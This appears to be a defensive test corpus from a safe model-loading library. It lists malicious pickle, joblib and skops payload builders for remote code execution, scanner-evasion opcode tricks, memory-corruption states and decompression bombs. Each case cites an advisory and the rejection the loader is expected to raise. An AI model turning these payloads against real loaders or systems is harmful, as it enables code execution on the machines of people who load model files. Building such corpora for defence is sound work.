# --- bombs ----------------------------------------------------------------------------------------


def _deep_marks(m: str) -> bytes:
    return b"\x80\x02" + b"(" * 100_000 + b"N" + b"t" * 100_000 + b"."


def _deep_lists(m: str) -> bytes:
    # each list padded with NONE, POP: a stream makes at most one container per 2 bytes, and
    # this case is about their depth
    return b"\x80\x02" + b"]N0" * 100_000 + b"a" * 99_999 + b"."


def _huge_length(opcode: bytes) -> Callable[[str], bytes]:
    def build(m: str) -> bytes:
        return b"\x80\x04" + opcode + (2**60).to_bytes(8, "little") + b"x" * 64 + b"."

    return build


def _long_binput(m: str) -> bytes:
    return _Asm(2).push(None).long_binput(0xFFFFFFFF).stop().value()


def _truncated_arg(m: str) -> bytes:
    return b"\x80\x02cposix\nsystem\nX" + (2**20).to_bytes(4, "little") + _sh(m).encode()


# --- the corpus --------------------------------------------------------------------------------

_CLASSIC = "classic pickle RCE (ATTACKS.md: os.system/posix.system/nt.system, builtins)"
_PROFILE = (
    "picklescan GHSA-49gj-c84q-6qm9, GHSA-9w88-8rmg-7g2p, GHSA-7wx9-6375-f5wh, "
    "GHSA-x696-vm39-cp64; fickling GHSA-p523-jq9w-64x9"
)
_DEBUG = "GHSA-5qwp-399c-mjwf, GHSA-g344-hcph-8vgg"
_CODE = "GHSA-cj3c-v495-4xqh, GHSA-3gf5-cxq9-w223, GHSA-j343-8v2j-ff7w, GHSA-m869-42cg-3xwr"
_HIDDEN = "GHSA-g38g-8gr9-h9xp; fickling GHSA-5hwf-rc88-82xm"
_FILES = "GHSA-m273-6v24-x4m4, GHSA-9726-w42j-3qjr"
_TRUSTED_PKG = "ATTACKS.md: dangerous callables inside 'trusted' packages (numpy, sklearn, joblib)"
_JOBLIB = "ATTACKS.md containers: joblib compressed containers and inline arrays"
_LIMITS = "denial of service against the loader (safeload threat model: Limits)"

_U, _M, _L = UntrustedTypeError, MalformedArtifactError, LimitExceededError
_S = UnsafeStateError
_USE_TIME = "safeload issue 13; ATTACKS.md: use time (dispatch by name, stored callables)"


def _use_time(name: str) -> Callable[[str], bytes]:
    """A builder from :mod:`safeload._usetime_attacks` (imported only when a case is built)."""

    def build(m: str) -> bytes:
        from safeload import _usetime_attacks

        builder: Callable[[str], bytes] = getattr(_usetime_attacks, name)
        return builder(m)

    return build


def _case(
    name: str,
    technique: str,
    reference: str,
    build: Callable[[str], bytes],
    expect: type[SafeloadError],
    *,
    container: str = "pickle",
    plain: str = "pickle",
    executes: bool = True,
    limits: dict[str, int] | None = None,
    use: str | None = None,
) -> AttackCase:
    return AttackCase(
        name, technique, reference, container, build, plain, expect, executes, limits, use
    )


#: The table of cases, one row per published technique (payloads are assembled only when a
#: case's ``build`` runs, so the table is cheap to hold).
CASES: tuple[AttackCase, ...] = (
    # --- globals that run code -------------------------------------------------------
    _case(
        "os-system-p0",
        "protocol 0 text opcodes: GLOBAL os.system + REDUCE of a shell command",
        _CLASSIC,
        _os_system_p0,
        _U,
    ),
    _case(
        "posix-system-p1",
        "protocol 1 binary opcodes: posix.system (os.system's real module) + MARK/TUPLE/REDUCE",
        _CLASSIC,
        lambda m: _simple(1, "posix", "system", _sh(m)),
        _U,
    ),
    _case(
        "nt-system",
        "nt.system, os.system's Windows module (does not import here, so the "
        "plain loader cannot execute it on this platform)",
        _CLASSIC,
        lambda m: _simple(2, "nt", "system", _sh(m)),
        _U,
        executes=sys.platform == "win32",
    ),
    _case(
        "builtins-exec-p4",
        "protocol 4 STACK_GLOBAL builtins.exec inside a FRAME",
        _CLASSIC,
        lambda m: _simple(4, "builtins", "exec", _py(m), frame=True),
        _U,
    ),
    _case(
        "py2-builtin-eval",
        "protocol 2 Python-2 name __builtin__.eval, mapped to builtins.eval by _compat_pickle",
        _CLASSIC,
        lambda m: _simple(2, "__builtin__", "eval", _py(m)),
        _U,
    ),
    _case(
        "compile-then-exec",
        "builtins.compile builds a code object in the stream, builtins.exec runs it",
        _CLASSIC,
        lambda m: _simple(2, "builtins", "exec", _c("builtins", "compile", _py(m), "<p>", "exec")),
        _U,
    ),
    _case(
        "getattr-import-chain",
        "getattr(__import__('os'), 'system') then REDUCE on the computed callable",
        _CLASSIC,
        _getattr_import,
        _M,
    ),
    _case(
        "subprocess-call",
        "subprocess.call with an argv list (EMPTY_LIST/APPENDS)",
        _CLASSIC,
        lambda m: _simple(2, "subprocess", "call", _argv(m)),
        _U,
    ),
    _case(
        "subprocess-getoutput",
        "subprocess.getoutput: a shell command through a convenience wrapper",
        _CLASSIC,
        lambda m: _simple(2, "subprocess", "getoutput", _sh(m)),
        _U,
    ),
    _case(
        "os-spawnlp",
        "os.spawnlp(P_WAIT, ...) runs a program without a shell",
        _CLASSIC,
        lambda m: _simple(2, "os", "spawnlp", 0, "touch", "touch", m),
        _U,
    ),
    _case(
        "runpy-run-code",
        "runpy._run_code execs a source string",
        "fickling GHSA-wfq2-52f7-7qvj, GHSA-q5qq-mvfm-j35x",
        lambda m: _simple(2, "runpy", "_run_code", _py(m), {}),
        _U,
    ),
    _case(
        "runpy-run-path",
        "runpy.run_path runs a script file the payload points to",
        "fickling GHSA-wfq2-52f7-7qvj, GHSA-q5qq-mvfm-j35x",
        _runpy_run_path,
        _U,
    ),
    _case(
        "timeit-setup",
        "timeit.timeit('pass', setup=<code>) execs the setup string",
        _DEBUG,
        lambda m: _simple(2, "timeit", "timeit", "pass", _py(m)),
        _U,
    ),
    _case(
        "cprofile-run",
        "cProfile.run execs a statement under the profiler",
        _PROFILE,
        lambda m: _simple(2, "cProfile", "run", _py(m)),
        _U,
    ),
    _case(
        "cprofile-runctx",
        "cProfile.runctx execs a statement with given namespaces",
        _PROFILE,
        lambda m: _simple(2, "cProfile", "runctx", _py(m), {}, {}),
        _U,
    ),
    _case(
        "profile-run",
        "profile.run (pure-Python profiler) execs a statement",
        _PROFILE,
        lambda m: _simple(2, "profile", "run", _py(m)),
        _U,
    ),
    _case(
        "profile-method-dotted",
        "dotted qualname profile:Profile.run called unbound on a fresh Profile()",
        _PROFILE,
        _dotted_method("profile", "Profile", "run", _no_args, _py_arg),
        _U,
    ),
    _case(
        "bdb-run-dotted",
        "bdb:Bdb.run called unbound on Bdb() runs a statement under the debugger core",
        _DEBUG,
        _dotted_method("bdb", "Bdb", "run", _no_args, _py_arg),
        _U,
    ),
    _case(
        "trace-run-dotted",
        "trace:Trace.run on Trace(0, 0) execs a statement",
        _DEBUG,
        _dotted_method("trace", "Trace", "run", lambda m: (0, 0), _py_arg),
        _U,
    ),
    _case(
        "code-runsource",
        "code:InteractiveInterpreter.runsource compiles and runs source",
        _CODE,
        _dotted_method("code", "InteractiveInterpreter", "runsource", _no_args, _py_arg),
        _U,
    ),
    _case(
        "code-console-push",
        "code:InteractiveConsole.push feeds a line to the REPL machinery",
        _CODE,
        _dotted_method("code", "InteractiveConsole", "push", _no_args, _py_arg),
        _U,
    ),
    _case(
        "pydoc-locate",
        "pydoc.locate('os.system') resolves a dotted name; REDUCE calls the result",
        "GHSA-84r2-jw7c-4r5q",
        _pydoc_locate,
        _M,
    ),
    _case(
        "operator-methodcaller",
        "operator.methodcaller('system', cmd) applied to importlib.import_module('os')",
        "GHSA-955r-x9j8-7rhh",
        _methodcaller,
        _M,
    ),
    _case(
        "operator-attrgetter",
        "operator.attrgetter('system') applied to __import__('os'), then called",
        "GHSA-955r-x9j8-7rhh",
        _attrgetter,
        _M,
    ),
    _case(
        "operator-itemgetter-sys-modules",
        "_operator.itemgetter('os') on the sys.modules dict, then _operator.methodcaller('system')",
        "GHSA-955r-x9j8-7rhh",
        _itemgetter_sys_modules,
        _M,
    ),
    _case(
        "pkgutil-resolve-name",
        "pkgutil.resolve_name('os:system'): a universal name resolver",
        "GHSA-vvpj-8cmc-gx39",
        _resolve_name,
        _M,
    ),
    _case(
        "uuid-command-stdout",
        "uuid._get_command_stdout runs a program (hidden subprocess)",
        _HIDDEN,
        lambda m: _simple(2, "uuid", "_get_command_stdout", "touch", m),
        _U,
    ),
    _case(
        "osx-support-read-output",
        "_osx_support._read_output runs os.system (importable on every platform)",
        _HIDDEN,
        lambda m: _simple(2, "_osx_support", "_read_output", _sh(m)),
        _U,
    ),
    _case(
        "imaplib-stream",
        "imaplib.IMAP4_stream starts a shell command as its transport",
        _HIDDEN,
        lambda m: _simple(2, "imaplib", "IMAP4_stream", _sh(m)),
        _U,
    ),
    _case(
        "multiprocessing-spawnv",
        "multiprocessing.util.spawnv_passfds: a submodule helper that fork-execs a program",
        "CVE-2025-10157 (submodules of blocked modules)",
        _spawnv,
        _U,
    ),
    _case(
        "marshal-function",
        "marshal.loads + types.FunctionType build and call a function from bytecode",
        "GHSA-565g-hwwr-4pp3, GHSA-9m3x-qqw2-h32h",
        _marshal_function,
        _M,
    ),
    _case(
        "ctypes-libc-system",
        "ctypes.CDLL(None) then getattr(libc, 'system')",
        "GHSA-565g-hwwr-4pp3, GHSA-9m3x-qqw2-h32h",
        _ctypes_libc,
        _M,
    ),
    _case(
        "io-fileio-create",
        "_io.FileIO(path, 'w'): a file primitive creates a file",
        _FILES,
        lambda m: _simple(2, "_io", "FileIO", m, "w"),
        _U,
    ),
    _case(
        "logging-filehandler",
        "logging.FileHandler(path) creates the file it logs to",
        _FILES,
        lambda m: _simple(2, "logging", "FileHandler", m),
        _U,
    ),
    _case(
        "urlretrieve-file-url",
        "urllib.request.urlretrieve copies a URL (file:// here, no network) to a path",
        _FILES,
        _urlretrieve,
        _U,
    ),
    # --- trusted packages -------------------------------------------------------------
    _case(
        "numpy-runstring",
        "numpy.testing._private.utils.runstring: exec inside numpy",
        _TRUSTED_PKG,
        lambda m: _simple(2, "numpy.testing._private.utils", "runstring", _py(m), {}),
        _U,
    ),
    _case(
        "numpy-f2py-myeval",
        "numpy.f2py.crackfortran.myeval: eval inside numpy",
        _TRUSTED_PKG,
        lambda m: _simple(2, "numpy.f2py.crackfortran", "myeval", _py(m)),
        _U,
    ),
    _case(
        "numpy-load-allow-pickle",
        "numpy.load(path, allow_pickle=True) on a pickle the payload points to",
        _TRUSTED_PKG,
        _numpy_load_side,
        _U,
    ),
    _case(
        "numpy-memmap-create",
        "numpy.memmap(path, mode='w+') creates a file",
        _TRUSTED_PKG,
        lambda m: _simple(2, "numpy", "memmap", m, "uint8", "w+", 0, (1,)),
        _U,
    ),
    _case(
        "numpy-savetxt",
        "numpy.savetxt writes a text file anywhere",
        _TRUSTED_PKG,
        lambda m: _simple(2, "numpy", "savetxt", m, [0]),
        _U,
    ),
    _case(
        "sklearn-script-runner",
        "sklearn.utils._testing."
        "assert_run_python_script_without_output runs source in a subprocess",
        _TRUSTED_PKG,
        lambda m: _simple(
            2, "sklearn.utils._testing", "assert_run_python_script_without_output", _py(m)
        ),
        _U,
    ),
    _case(
        "joblib-load-side-file",
        "joblib.load of a second malicious file the payload points to",
        _TRUSTED_PKG,
        _joblib_load_side,
        _U,
    ),
    _case(
        "pickle-loads-nested",
        "pickle.loads of a nested payload held in BINBYTES",
        _CLASSIC,
        _nested_pickle,
        _U,
    ),
    _case(
        "c-pickle-loads-codecs",
        "_pickle.loads of bytes rebuilt by the allowlisted _codecs.encode (protocol 2)",
        _CLASSIC,
        _nested_c_pickle_codecs,
        _U,
    ),
    _case(
        "copyreg-reconstructor-popen",
        "the allowlisted copyreg._reconstructor as a call "
        "gadget: base.__init__ = subprocess.Popen.__init__",
        _CLASSIC,
        _reconstructor_popen,
        _U,
    ),
    _case(
        "list-of-lazy-map",
        "the allowlisted builtins.list consumes builtins.map(os.system, ...)",
        _CLASSIC,
        _map_into_list,
        _U,
    ),
    _case(
        "pathlib-path-touch",
        "dotted qualname pathlib:Path.touch on pathlib.Path(path)",
        _FILES,
        _dotted_method("pathlib", "Path", "touch", lambda m: (m,), _no_args),
        _U,
    ),
    # --- name-resolution and opcode tricks ---------------------------------------------
    _case(
        "dotted-pathlib-os-system",
        f"protocol 4 dotted qualname ('{_OS_VIA}', 'os.system') walks through a module's imports",
        "fickling GHSA-5j3x-jp52-966f; modelscan issue 89",
        lambda m: _Asm(4).stack_global(_OS_VIA, "os.system").apply(_sh(m)).stop().value(frame=True),
        _U,
    ),
    _case(
        "dotted-numpy-runstring",
        "protocol 4 dotted qualname ('numpy', 'testing._private.utils.runstring')",
        "fickling GHSA-5j3x-jp52-966f",
        lambda m: (
            _Asm(4)
            .stack_global("numpy", "testing._private.utils.runstring")
            .apply(_py(m), {})
            .stop()
            .value(frame=True)
        ),
        _U,
    ),
    _case(
        "dict-get-builtins-pivot",
        "builtins:dict.get(numpy.__builtins__, 'exec'): a module attribute pivot",
        "modelscan issue 89",
        _dict_get_pivot,
        _M,
    ),
    _case(
        "build-on-module",
        "BUILD plants posix.system on the json.decoder module; a later GLOBAL reads it back",
        "modelscan issues 85 and 330",
        _build_on_module,
        _M,
    ),
    _case(
        "build-on-function-code",
        "BUILD slot state setattr()s __code__ of colorsys.rgb_to_yiq, then calls it",
        "modelscan issues 85 and 330",
        _build_on_function,
        _M,
    ),
    _case(
        "build-on-class-init",
        "BUILD slot state sets string.Template.__init__ = posix.system, then instantiates it",
        "modelscan issues 85 and 330",
        _build_on_class,
        _M,
    ),
    _case(
        "memo-fed-stack-global",
        "STACK_GLOBAL operands fetched with BINGET, decoy strings right before it",
        "picklescan issue 22",
        _memo_stack_global,
        _U,
    ),
    _case(
        "ext1-registry",
        "EXT1 extension code: no name in the stream (executes only if "
        "the loader registered code 0xF0 via copyreg.add_extension)",
        "ATTACKS.md: EXT1/2/4 extension codes",
        _ext(b"\x82", 0xF0, 1),
        _M,
        executes=False,
    ),
    _case(
        "ext2-registry",
        "EXT2 extension code (needs a registered copyreg extension)",
        "ATTACKS.md: EXT1/2/4 extension codes",
        _ext(b"\x83", 0x1234, 2),
        _M,
        executes=False,
    ),
    _case(
        "ext4-registry",
        "EXT4 extension code (needs a registered copyreg extension)",
        "ATTACKS.md: EXT1/2/4 extension codes",
        _ext(b"\x84", 0x123456, 4),
        _M,
        executes=False,
    ),
    _case(
        "persid-text",
        "PERSID hands 'os.system' to the loader's persistent_load (runs "
        "only with a loader that defines one)",
        "ATTACKS.md: opcode tricks",
        _persid,
        _M,
        executes=False,
    ),
    _case(
        "binpersid",
        "BINPERSID with a computed persistent id (needs persistent_load)",
        "ATTACKS.md: opcode tricks",
        _binpersid,
        _M,
        executes=False,
    ),
    _case(
        "next-buffer",
        "NEXT_BUFFER/READONLY_BUFFER pull out-of-band data (needs buffers=...)",
        "ATTACKS.md: opcode tricks",
        _next_buffer,
        _M,
        executes=False,
    ),
    _case(
        "inst-desync-rot13-names",
        "INST of allowlisted _codecs.encode(..., 'rot13') computes the STACK_GLOBAL names "
        "above decoy constants ('builtins', 'list')",
        "GHSA-mxhj-88fx-4pcv; picklescan issue 22 (names a scanner resolves wrongly)",
        _inst_rot13_names,
        _M,
    ),
    _case(
        "inst-desync-build-on-class",
        "INST builtins.tuple builds a BUILD state whose target is an allowlisted class: "
        "setattr on joblib's NumpyArrayWrapper class (no marker: the class is changed)",
        "modelscan issues 85 and 330 (BUILD on a class); GHSA-mxhj-88fx-4pcv",
        _inst_build_on_class,
        _M,
        executes=False,
    ),
    _case(
        "inst-then-pop",
        "INST calls posix.system and POP hides the result from a decompiled view",
        "GHSA-mxhj-88fx-4pcv",
        _inst_pop,
        _U,
    ),
    _case(
        "obj-then-pop",
        "OBJ calls posix.system and POP discards it",
        "GHSA-mxhj-88fx-4pcv",
        _obj_pop,
        _U,
    ),
    _case(
        "newobj-partial",
        "NEWOBJ builds functools.partial(posix.system, cmd); REDUCE calls it",
        "GHSA-mxhj-88fx-4pcv",
        _newobj_partial,
        _M,
    ),
    _case(
        "newobj-ex-partial",
        "NEWOBJ_EX builds functools.partial(subprocess.run, argv, check=False) with kwargs",
        "GHSA-mxhj-88fx-4pcv",
        _newobj_ex_partial,
        _M,
    ),
    _case(
        "frame-length-short",
        "FRAME declares fewer bytes than its opcodes use: the C unpickler ignores it",
        "fickling test_frame_boundary_divergence",
        _frame_short,
        _M,
    ),
    _case(
        "frame-nested",
        "a FRAME opens inside another FRAME (the C unpickler does not care)",
        "fickling test_frame_boundary_divergence",
        _frame_nested,
        _M,
    ),
    _case(
        "frame-length-overlong",
        "FRAME claims 2**40 bytes: the plain loader stops before the call",
        "fickling test_frame_boundary_divergence",
        _frame_overlong,
        _M,
        executes=False,
    ),
    _case(
        "invalid-opcode-after-call",
        "payload then an invalid opcode: the call runs before the error",
        "nullifAI 'broken pickle' (ReversingLabs, 2025)",
        _invalid_after_call,
        _M,
    ),
    _case(
        "truncated-after-call",
        "payload with no STOP: the call runs, then EOF",
        "nullifAI 'broken pickle' (ReversingLabs, 2025)",
        _truncated_after_call,
        _M,
    ),
    _case(
        "second-pickle-after-stop",
        "a harmless pickle, then a payload after STOP for loaders that call load() twice",
        "ATTACKS.md: second pickle after STOP",
        _second_pickle,
        _M,
        plain="pickle-twice",
    ),
    # --- joblib containers -----------------------------------------------------------
    _case(
        "joblib-plain-payload",
        "an uncompressed .joblib file that is just a payload pickle",
        _JOBLIB,
        lambda m: _simple(2, "subprocess", "call", _argv(m)),
        _U,
        container="joblib",
        plain="joblib",
    ),
    _case(
        "joblib-zlib",
        "zlib-compressed joblib container wrapping builtins.exec",
        _JOBLIB,
        _compressed("zlib", lambda m: _simple(4, "builtins", "exec", _py(m))),
        _U,
        container="joblib-zlib",
        plain="joblib",
    ),
    _case(
        "joblib-gzip",
        "gzip-compressed joblib container wrapping posix.system",
        _JOBLIB,
        _compressed("gzip", lambda m: _simple(2, "posix", "system", _sh(m))),
        _U,
        container="joblib-gzip",
        plain="joblib",
    ),
    _case(
        "joblib-bz2",
        "bz2-compressed joblib container wrapping runpy._run_code",
        _JOBLIB,
        _compressed("bz2", lambda m: _simple(2, "runpy", "_run_code", _py(m), {})),
        _U,
        container="joblib-bz2",
        plain="joblib",
    ),
    _case(
        "joblib-xz",
        "xz-compressed joblib container wrapping subprocess.call",
        _JOBLIB,
        _compressed("xz", lambda m: _simple(3, "subprocess", "call", _argv(m))),
        _U,
        container="joblib-xz",
        plain="joblib",
    ),
    _case(
        "joblib-lzma",
        "legacy .lzma (FORMAT_ALONE) joblib container wrapping timeit.timeit",
        _JOBLIB,
        _compressed("lzma", lambda m: _simple(2, "timeit", "timeit", "pass", _py(m))),
        _U,
        container="joblib-lzma",
        plain="joblib",
    ),
    _case(
        "joblib-after-raw-array",
        "payload placed after the first inline raw array, where pickle parsers give up",
        _JOBLIB,
        _after_array,
        _U,
        container="joblib",
        plain="joblib",
    ),
    _case(
        "joblib-object-array",
        "payload inside the nested pickle of an object array "
        "(joblib < 1.6 read it with plain pickle.load)",
        _JOBLIB,
        _object_array,
        _U,
        container="joblib",
        plain="joblib",
    ),
    _case(
        "joblib-ndarraywrapper",
        "legacy NDArrayWrapper BUILD calls numpy.load(path, "
        "allow_pickle=True) on a path from the file",
        _JOBLIB,
        _ndarray_wrapper,
        _U,
        container="joblib",
        plain="joblib",
    ),
    # --- skops -------------------------------------------------------------------------
    _case(
        "skops-reduce-node",
        "skops ConstructorFromReduceNode calling posix.system; a "
        "user trusts what get_untrusted_types lists",
        "CVE-2024-37065",
        _skops_file(_skops_reduce),
        _U,
        container="skops",
        plain="skops-trusted",
    ),
    _case(
        "skops-list-node-callable",
        "skops ListNode whose 'type' is subprocess.call, called with the list",
        "CVE-2024-37065",
        _skops_file(_skops_list_callable),
        _U,
        container="skops",
        plain="skops-trusted",
    ),
    _case(
        "skops-operator-methodcaller",
        "skops OperatorFuncNode methodcaller('system') mapped over import_module('os')",
        "CVE-2025-54412",
        _skops_file(_skops_methodcaller),
        _U,
        container="skops",
        plain="skops-trusted",
    ),
    _case(
        "skops-method-node",
        "skops MethodNode reaches InteractiveInterpreter.runsource on an object it built",
        "CVE-2025-54413",
        _skops_file(_skops_method),
        _U,
        container="skops",
        plain="skops-trusted",
    ),
    _case(
        "skops-duplicate-schema",
        "zip with two schema.json members: a benign first, the payload last (what zipfile reads)",
        "CVE-2025-1944 (zip header games)",
        _skops_file(_skops_reduce, duplicate=True),
        _M,
        container="skops",
        plain="skops-trusted",
    ),
    # --- bombs -------------------------------------------------------------------------
    _case(
        "deep-marks",
        "100,000 nested MARKs (metastack growth)",
        _LIMITS,
        _deep_marks,
        _L,
        plain="none",
        executes=False,
    ),
    _case(
        "deep-lists",
        "100,000 nested lists built with APPEND (container depth)",
        _LIMITS,
        _deep_lists,
        _L,
        plain="none",
        executes=False,
    ),
    _case(
        "binunicode8-huge",
        "BINUNICODE8 claiming 2**60 bytes",
        _LIMITS,
        _huge_length(b"\x8d"),
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "binbytes8-huge",
        "BINBYTES8 claiming 2**60 bytes",
        _LIMITS,
        _huge_length(b"\x8e"),
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "bytearray8-huge",
        "BYTEARRAY8 claiming 2**60 bytes",
        _LIMITS,
        _huge_length(b"\x96"),
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "memo-long-binput-huge",
        "LONG_BINPUT 0xFFFFFFFF (the C unpickler grows its memo to 2**32 slots)",
        _LIMITS,
        _long_binput,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "truncated-stream",
        "a payload cut off inside a BINUNICODE argument",
        _LIMITS,
        _truncated_arg,
        _M,
        executes=False,
    ),
    _case(
        "joblib-zlib-bomb",
        "small zlib joblib file inflating to 16 MiB (limit lowered to 1 MiB)",
        _LIMITS,
        _bomb("zlib"),
        _L,
        container="joblib-zlib",
        plain="none",
        executes=False,
        limits={"max_decompressed_size": 2**20},
    ),
    _case(
        "joblib-gzip-bomb",
        "small gzip joblib file inflating to 16 MiB (limit lowered to 1 MiB)",
        _LIMITS,
        _bomb("gzip"),
        _L,
        container="joblib-gzip",
        plain="none",
        executes=False,
        limits={"max_decompressed_size": 2**20},
    ),
    _case(
        "joblib-array-size-claim",
        "joblib array wrapper claiming 2**62 float64 elements",
        _LIMITS,
        _array_claim,
        _L,
        container="joblib",
        plain="none",
        executes=False,
    ),
    _case(
        "numpy-object-array-short-state",
        "allowlisted numpy _reconstruct + BUILD: an object array state with 2 items for "
        "shape (100000,) leaves wild pointers (the plain loader crashes too)",
        "ATTACKS.md: memory safety of allowed types",
        _short_object_array,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "joblib-object-array-short-state",
        "the same short object-array state inside a joblib object array's nested pickle",
        "ATTACKS.md: memory safety of allowed types; joblib object arrays",
        _joblib_short_object_array,
        _M,
        container="joblib",
        plain="none",
        executes=False,
    ),
    _case(
        "numpy-structured-dtype-bad-field",
        "allowlisted numpy.dtype BUILD: a structured dtype whose field type is a str; the "
        "array loads and segfaults on first copy (no plain loader runs it)",
        "ATTACKS.md: memory safety of allowed types",
        _bad_field_dtype,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "numpy-dtype-flags-tampered",
        "allowlisted numpy.dtype BUILD with flags 3 (object, no list-pickle bit) for an "
        "object array: numpy reads the state's list as raw pointers",
        "ATTACKS.md: memory safety of allowed types",
        _object_dtype_flags,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "numpy-dtype-octal-itemsize",
        "allowlisted numpy.dtype BUILD whose itemsize is the text INT I07777777: a base-10 "
        "reader sees room for a field at offset 7,000,000, numpy receives 2,097,151",
        "ATTACKS.md: parser differentials inside the defender (text opcodes)",
        _octal_itemsize_dtype,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "numpy-dtype-hidden-behind-call",
        "object ndarray state with shape (200000,) and no items whose dtype 'O' comes from "
        "copyreg._reconstructor(*<tuple made by a call>): not recognised as a dtype, the "
        "object-array check never ran (load_unsigned segfaulted; plain pickle does too)",
        "ATTACKS.md: parser differentials inside the defender (values produced by calls)",
        _hidden_dtype_object_array,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "joblib-wrapper-hidden-behind-call",
        "joblib NumpyArrayWrapper made by copyreg._reconstructor(*<tuple made by a call>): "
        "joblib reads the object array after it with a fresh memo, where BINGET 0/1 are "
        "posix/system; a pass that misses the wrapper resolves numpy.dtype",
        "ATTACKS.md: parser differentials inside the defender (joblib's fresh unpickler)",
        _hidden_joblib_wrapper,
        _M,
        container="joblib",
        plain="joblib",
    ),
    _case(
        "numpy-dtype-second-build-from-memo",
        "a structured dtype built with an honest state, fetched again from the memo and "
        "given a second BUILD with an 8-byte field at offset 2 of an 8-byte item",
        "safeload issue 14 (item 9); ATTACKS.md: memory safety of allowed types",
        _memo_dtype_rebuilt,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "numpy-dtype-built-after-use",
        "a V8 dtype used for an array before its BUILD; the BUILD then gives the array's "
        "items a field that runs past them",
        "safeload issue 14 (item 9); ATTACKS.md: memory safety of allowed types",
        _dtype_used_then_built,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "memo-dag-constant-folding",
        "T0=(1,), Tk=(Tk-1,Tk-1) through the memo, T27 as an array shape: a fold without "
        "memoisation visits 2**28 tuples (17 s and 3.8 GiB for a 576-byte file)",
        "ATTACKS.md: parser differentials inside the defender (constant folding over a DAG)",
        _memo_dag_shape,
        _L,
        plain="none",
        executes=False,
    ),
    _case(
        "sklearn-tree-child-out-of-range",
        "crafted sklearn Tree whose child index points past the node array (out-of-bounds "
        "read in predict; must be caught after loading)",
        "ATTACKS.md: memory safety of allowed types (crafted sklearn.tree._tree.Tree)",
        _crafted_tree,
        _M,
        plain="none",
        executes=False,
    ),
    _case(
        "skops-zip-bomb",
        "skops zip with a member inflating to 16 MiB (limit lowered to 1 MiB)",
        _LIMITS,
        _skops_zip_bomb,
        _L,
        container="skops",
        plain="none",
        executes=False,
        limits={"max_decompressed_size": 2**20},
    ),
    # --- use time: allowlisted names only; predict() runs the payload -------------------
    _case(
        "usetime-stacking-tofile",
        "allowlisted names only: StackingClassifier.stack_method_ '__call__' on a partial "
        "around a scorer reaches a bytes array's tofile (file write at predict)",
        _USE_TIME,
        _use_time("stacking_tofile"),
        _S,
        use="predict",
    ),
    _case(
        "usetime-shadowed-predict",
        "allowlisted names only: a state key 'predict' hides the class's method, so "
        "predict() calls the file's callable",
        _USE_TIME,
        _use_time("shadowed_predict"),
        _S,
        use="predict",
    ),
    _case(
        "usetime-fixed-threshold-memory",
        "allowlisted names only: FixedThresholdClassifier.response_method 'fit' makes "
        "predict() fit a Pipeline whose memory path the file chose (folder created)",
        _USE_TIME,
        _use_time("fixed_threshold_memory"),
        _S,
        use="predict",
    ),
)


def attack_corpus() -> list[AttackCase]:
    """Every case of :data:`CASES` (immutable, so the list may be shared and filtered)."""
    return list(CASES)
